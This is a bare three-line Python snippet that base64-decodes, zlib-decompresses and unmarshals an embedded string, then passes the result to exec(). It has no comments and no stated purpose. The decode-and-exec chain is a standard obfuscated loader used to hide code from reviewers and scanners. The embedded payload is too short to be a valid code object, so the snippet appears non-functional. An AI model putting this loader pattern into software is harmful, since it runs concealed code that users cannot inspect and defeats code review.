import base64, marshal, zlib
payload = "eJwrzs9NVShJLS4BAA=="
exec(marshal.loads(zlib.decompress(base64.b64decode(payload))))
